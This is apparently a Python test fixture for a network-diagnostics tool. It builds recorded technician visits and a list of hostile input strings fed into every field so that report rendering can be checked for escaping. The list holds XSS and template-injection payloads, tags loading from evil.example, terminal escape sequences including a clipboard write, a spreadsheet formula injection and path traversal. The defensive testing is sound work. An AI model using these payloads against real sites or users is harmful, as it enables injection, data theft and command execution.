"""Events of recorded visits, made by hand: one of each ending, and one in which every text is somebody's attack."""

from collections.abc import Sequence
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from functools import cache
from typing import Any

from fieldkit.engine.codec import plain
from fieldkit.engine.library import Library, load_library
from fieldkit.model.address import AddressReading, OwnAddress
from fieldkit.model.arp import ArpReading, ArpReply
from fieldkit.model.cause import Also, Alternative, Conclusion, Words
from fieldkit.model.event import Event, EventKind
from fieldkit.model.finding import Finding, Limit, Missing
from fieldkit.model.reading import Reading, Where
from fieldkit.model.terms import FAULT, OK, UNKNOWN, WARN, Confidence, Source, Trust, Vantage, Verdict
from fieldkit.report.document import Document, build

START = datetime(2026, 3, 1, 2, 0, tzinfo=UTC)
MACS = ("00:e0:fc:00:00:01", "c8:3a:35:00:00:77")

REPLIES = tuple(ArpReply("192.168.1.1", mac, 0.4, 1, mac) for mac in MACS)
READINGS = (
    Reading(
        "r1",
        "address",
        Source.PROBE,
        START,
        0.1,
        Where("eth0", Vantage.LAN),
        "ip",
        AddressReading("eth0", "02:00:00:00:00:09", "dhcp", (OwnAddress("192.168.1.50", 24, True),), ("192.168.1.1",)),
        raw="2: eth0    inet 192.168.1.50/24 brd 192.168.1.255 scope global dynamic eth0",
    ),
    Reading(
        "r2",
        "arp",
        Source.PROBE,
        START,
        3.0,
        Where("eth0"),
        "raw socket",
        ArpReading("192.168.1.1", "raw", 3, 3.0, True, REPLIES),
        raw="\n".join(f"reply {number} 192.168.1.1 is-at {MACS[number % 2]}" for number in range(60)),
    ),
    Reading(
        "r3",
        "dhcp",
        Source.PROBE,
        START,
        0.0,
        Where("eth0"),
        "dhcp",
        missing=Missing("missing.no_raw_socket", {"topic": "dhcp"}),
    ),
)
WINDOW = Limit(3.0, "s", "RFC 5227", Trust.STANDARD)
DUPLICATE = Finding(
    "gateway.unique",
    FAULT,
    "gateway.duplicate",
    {"gateway": "192.168.1.1", "macs": list(MACS)},
    WINDOW,
    ("r2",),
)
FITS = Finding("address.own", OK, "address.fits", {"ip": "192.168.1.50", "prefix": 24, "gateway": "192.168.1.1"})
UP = Finding("link.state", OK, "link.up", {"interface": "eth0", "speed_mbps": 1000, "duplex": "full"})
SLOW = Finding("link.quality", WARN, "link.half_duplex", {"interface": "eth0", "speed_mbps": 100, "duplex": "half"})
NOT_HEARD = Finding(
    "dhcp.servers",
    UNKNOWN,
    "dhcp.unmeasured",
    {},
    readings=("r3",),
    missing=Missing("missing.no_raw_socket", {"topic": "dhcp"}),
)
SINGLE = Finding("gateway.unique", OK, "gateway.single", {"gateway": "192.168.1.1", "macs": [MACS[0]]}, WINDOW, ("r2",))


@cache
def library() -> Library:
    """The shipped trees: reports of them are what people read."""
    return load_library()


def conclusion(cause: str, confidence: Confidence = Confidence.LIKELY, **more: Any) -> Conclusion:
    """A conclusion in a cause of the shipped list."""
    known = library().causes[cause]
    made = Conclusion(cause, known.place, known.owner, confidence, known.remedy, sources=("S-DUP-05", "expert"))
    return replace(made, **more)


DUPGW = conclusion(
    "CU-DUPGW",
    remedy=Words(zh="网关 {gateway} 有两台设备应答：{macs}。", en="Two devices answer as {gateway}: {macs}."),
    verify=Words(zh="重测只有一个 MAC 应答。", en="Measured again, one MAC answers."),
    alternatives=(Alternative("CU-RTR-CFG", Words(zh="双机热备未用虚拟 MAC", en="a pair without a virtual MAC")),),
    also=(Also("CU-CABLE", "link.down"),),
)


class Pen:
    """Writes events, ten seconds apart."""

    def __init__(self) -> None:
        self.events: list[Event] = []

    def write(self, kind: EventKind, payload: Any) -> None:
        at = START + timedelta(seconds=10 * len(self.events))
        self.events.append(Event(at, kind, plain(payload)))

    def passed(self, tree: str, step: str, heard: str, how: str, **more: Any) -> None:
        given = {"tree": tree, "step": step, "heard": heard, "verdict": None, "reason": "", "how": how, **more}
        self.write("passed", given)

    def concluded(self, said: Conclusion, verdict: Verdict, holes: dict[str, Any]) -> None:
        facts = {"vantage": "lan", "symptom": "intermittent"}
        given = {"conclusion": said, "verdict": verdict, "holes": holes, "round": 1, "facts": facts}
        self.write("concluded", given)


OPENED: dict[str, Any] = {
    "program": "fieldkit",
    "version": "0.1.0",
    "tree": "internet",
    "symptom": "intermittent",
    "site": None,
    "vantage": None,
    "line": {"id": "CQ-0001", "customer": {"name": "示例商贸公司", "address": "示例路 1 号"}},
    "ticket": "T-2026-0301",
    "interface": "eth0",
    "auto": False,
    "language": "zh",
    "rehearsed": False,
}


def visit(
    findings: Sequence[Finding],
    said: Conclusion | None,
    verdict: Verdict = UNKNOWN,
    *,
    rehearsed: bool = False,
    interrupted: bool = False,
) -> list[Event]:
    """A visit with these findings, ended in this conclusion or none."""
    pen = Pen()
    pen.write("opened", {**OPENED, "rehearsed": rehearsed})
    pen.passed("internet", "vantage", "l", "heard")
    pen.passed("internet", "complaint", "intermittent", "known")
    for reading in READINGS:
        pen.write("reading", reading)
    for found in findings:
        pen.write("finding", found)
    pen.passed("internet", "measure", "done", "measured")
    pen.passed("dup-gateway", "gateways", "gateway.duplicate", "measured", verdict="fault")
    pen.passed("dup-gateway", "unplug", "skipped", "heard", reason="客户不同意断网")
    if said is not None:
        holes = {"gateway": "192.168.1.1", "macs": list(MACS)}
        pen.concluded(said, verdict, holes)
        pen.passed("dup-gateway", said.step or "twins_likely", "concluded", "measured")
    pen.write(*(("interrupted", {"why": "Interrupted"}) if interrupted else ("finished", {"took_s": 42.25})))
    return pen.events


def by_people(events: list[Event]) -> list[Event]:
    """The visit with two notes, closed twice, the second time for good."""
    at = events[-1].at
    added: list[tuple[EventKind, dict[str, str]]] = [
        ("note", {"text": "客户说昨天换过路由器"}),
        ("closed", {"cause": "CU-DUPGW", "text": ""}),
        ("note", {"text": "第二天又断"}),
        ("closed", {"cause": "CU-CABLE", "text": "重做水晶头后恢复"}),
    ]
    more = [Event(at + timedelta(minutes=number), *each) for number, each in enumerate(added, 1)]
    return [*events, *more]


def endings() -> dict[str, list[Event]]:
    """One visit of each ending."""
    broken = (UP, SLOW, FITS, NOT_HEARD, DUPLICATE)
    healthy = (UP, FITS, SINGLE)
    return {
        "fault": visit(broken, DUPGW, FAULT),
        "ok": visit(healthy, conclusion("NF-OK", Confidence.SUSPECTED), OK),
        "warn": visit((*healthy, SLOW), conclusion("NF-OK", Confidence.SUSPECTED), WARN),
        "unknown": visit((UP, NOT_HEARD), conclusion("NF-UNK", Confidence.SUSPECTED), UNKNOWN),
        "interrupted": visit((UP, NOT_HEARD, DUPLICATE), None, interrupted=True),
        "rehearsed": visit(broken, DUPGW, FAULT, rehearsed=True),
        "interrupted in closing": visit(broken, DUPGW, FAULT, interrupted=True),
        "closed": by_people(visit(broken, DUPGW, FAULT)),
    }


ESC = "\x1b"
PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "</details></summary><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html,x>",
    "<embed src=//evil.example/x>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=//evil.example><input name=p></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<style>body{background:url(//evil.example)}</style>",
    "<div style='background:url(//evil.example)'>",
    "<table background=//evil.example>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x/>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "`onclick=alert(1)`",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<<script>script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "＜script＞alert(1)＜/script＞",
    "{{7*7}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{# comment #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{gateway} {0} {macs.__class__} {",
    "%s %n %(x)s",
    "[click](javascript:alert(1))",
    "[click](https://evil.example)",
    "![x](https://evil.example/x.png)",
    "[x]: https://evil.example",
    "<https://evil.example>",
    "https://evil.example/auto and www.evil.example",
    "bob@evil.example",
    "| a | b |\n|---|---|\n| c | d |",
    "```\nend of the fence\n```",
    "~~~ `````` ``",
    "# heading\n## heading\n- item\n1. item\n> quote",
    "====\n----\n***\n___",
    "**bold** _em_ ~~gone~~ $math$",
    "[[wiki]] :smile: @everyone #1",
    "line one\r\nline two\x0bthree\x0cfour\x85five\u2028six\u2029seven",
    f"{ESC}[31mred{ESC}[0m",
    f"{ESC}[2J{ESC}[H{ESC}]0;owned\x07",
    f"{ESC}]8;;http://evil.example{ESC}\\link{ESC}]8;;{ESC}\\",
    f"{ESC}]52;c;c2VjcmV0\x07",
    f"{ESC}P1;2q{ESC}\\ {ESC}_G{ESC}\\ {ESC}^x{ESC}\\ {ESC}Xy{ESC}\\",
    "\x9b31m \x9d0;x\x9c \x90q\x9c \x8d\x84",
    "\u202egnp.exe \u2066x\u2069 \u200e\u200f",
    "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg",
    "\ud800 \udfff lone",
    "\x00\x01\x07\x08\x7f",
    "[bold red]markup[/bold red] [/x] [link=http://evil.example]x[/link]",
    "=cmd|'/c calc'!A1",
    "../../etc/passwd",
    "A" * 10_000,
    "长" * 10_000,
    "W" * 4000 + "<script>alert(1)</script>",
)


def hostile(payload: str) -> list[Event]:
    """A visit in which every text that is not ours is the payload: facts, names, reasons, raw material, codes."""
    pen = Pen()
    customer = dict.fromkeys(("name", "address", "contact", "room"), payload)
    names = dict.fromkeys(("ticket", "interface", "site", "version"), payload)
    pen.write("opened", {**OPENED, **names, "line": {"id": payload, "customer": customer}})
    pen.passed("internet", "vantage", payload, "heard", reason=payload)
    pen.passed(payload, payload, payload, payload, reason=payload)
    address = AddressReading(payload, payload, "dhcp", (OwnAddress(payload, 24),), (payload,), dns=(payload,))
    reading = Reading("r1", "address", Source.PROBE, START, 0.1, Where(payload), payload, address, raw=payload)
    pen.write("reading", reading)
    facts: dict[str, Any] = dict.fromkeys(("ip", "prefix", "gateway", "interface", "speed_mbps", "duplex"), payload)
    facts |= {"macs": [payload, payload], "servers": [{"server_id": payload, "mac": payload}], payload: payload}
    limit = Limit(1.0, payload, payload, Trust.RULE_OF_THUMB)
    for found in (UP, SLOW, FITS, DUPLICATE):
        pen.write("finding", replace(found, facts=facts, limit=limit))
    missing = Missing("missing.probe_failed", {"topic": payload, "error": payload})
    pen.write("finding", replace(NOT_HEARD, facts=facts, missing=missing))
    pen.write("finding", Finding(payload, FAULT, payload, facts, limit))
    pen.passed("internet", "measure", "done", "measured")
    pen.passed("dup-gateway", "unplug", "skipped", "heard", reason=payload)
    said = replace(DUPGW, also=(Also("CU-CABLE", payload),), sources=(payload,))
    pen.concluded(said, FAULT, {"gateway": payload, "macs": [payload]})
    pen.write("finished", {"took_s": 1.5})
    pen.write("note", {"text": payload})
    pen.write("closed", {"cause": payload, "text": payload})
    return pen.events


@cache
def hostile_document(payload: str) -> Document:
    """The document of that visit; made once, for it is read in many forms."""
    return build(hostile(payload), case="260301-abcd")
